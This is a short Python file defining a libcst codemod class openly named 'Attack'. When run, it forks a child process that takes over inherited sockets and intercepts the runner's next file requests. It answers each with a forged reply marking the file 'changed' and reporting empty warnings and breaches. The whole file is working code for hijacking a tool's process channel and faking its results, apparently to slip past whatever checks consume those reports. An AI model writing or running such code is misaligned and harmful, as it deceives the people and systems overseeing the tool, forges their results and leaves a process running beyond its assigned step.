"""Leave a process behind that listens on the same connection, takes the next file for itself, and answers."""

import os
import re
import socket
import struct
import time

from libcst.codemod import VisitorBasedCodemodCommand


def sockets():
    for descriptor in range(3, 64):
        try:
            yield socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue


def answer(path):
    fields = b'"sites": [], "warnings": [], "words": [], "breaches": []'
    header = b'{"number": 0, "path": "%s", "kind": "changed", %s}' % (path, fields)
    return struct.pack(">II", len(header), 6) + header + b"taken\n"


def listen():
    ears = [*sockets()]
    end = time.monotonic() + 1
    while time.monotonic() < end:
        for ear in ears:
            try:
                heard = ear.recv(1 << 16, socket.MSG_DONTWAIT)
                for path in re.findall(rb'"path": "(.+?)"', heard):
                    ear.send(answer(path))
            except OSError:
                continue
    os._exit(0)


def leave_behind():
    if os.fork() == 0:
        listen()
    os.nice(19)
    time.sleep(0.05)


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Leave a listener."

    def transform_module_impl(self, tree):
        leave_behind()
        return tree
